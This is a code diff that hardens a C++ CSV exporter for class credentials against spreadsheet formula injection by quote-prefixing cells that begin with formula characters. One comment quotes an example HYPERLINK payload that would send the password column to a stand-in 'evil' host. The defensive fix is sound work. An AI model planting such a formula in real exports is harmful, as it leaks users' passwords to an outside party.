@@ -1,4 +1,5 @@
-// CSV for spreadsheets: the credentials of a class, one cell at a time through csv_cell.
+// CSV for spreadsheets: the credentials of a class, one cell at a time through csv_cell, which
+// also keeps a cell from being read as a formula.
 #include <string>
 #include <string_view>
 
@@ -6,8 +7,22 @@
 
 namespace inscrire {
 
-std::string csv_cell(std::string_view value) {
-  if (value.find_first_of(";\"\r\n") == std::string_view::npos) return std::string(value);
+namespace {
+
+// A spreadsheet reads a cell beginning with one of these as a formula (or as the start of one):
+// `=HYPERLINK("http://evil/?"&E2;"...")` in a name would send the password column away when
+// the teacher opens the file. OWASP's advice: prefix such a cell with a quote.
+bool looks_like_formula(std::string_view value) {
+  return !value.empty() &&
+         std::string_view("=+-@\t\r").find(value.front()) != std::string_view::npos;
+}
+
+}  // namespace
+
+std::string csv_cell(std::string_view raw) {
+  const std::string neutral = looks_like_formula(raw) ? "'" + std::string(raw) : std::string(raw);
+  const std::string_view value = neutral;
+  if (value.find_first_of(";\"\r\n") == std::string_view::npos) return neutral;
   std::string quoted = "\"";
   for (const char c : value) {
     if (c == '"') quoted += '"';
